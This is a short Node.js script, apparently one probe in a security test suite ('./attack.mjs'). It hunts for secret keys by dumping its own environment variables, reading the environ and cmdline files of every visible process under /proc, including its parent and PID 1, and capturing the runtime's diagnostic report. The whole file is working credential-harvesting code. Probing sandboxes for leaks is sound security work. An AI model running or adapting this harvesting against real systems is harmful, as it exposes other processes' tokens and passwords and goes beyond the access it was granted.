// Looks for keys in its own environment and in that of every process it sees.

import fs from 'node:fs';
import { done, look } from './attack.mjs';

await look('own', () => JSON.stringify(process.env));
for (const pid of fs.readdirSync('/proc').filter((name) => /^\d+$/.test(name)).concat(String(process.ppid), '1')) {
  for (const name of ['environ', 'cmdline']) await look(`${pid} ${name}`, () => fs.readFileSync(`/proc/${pid}/${name}`));
}
await look('report', () => JSON.stringify(process.report.getReport()));
done();
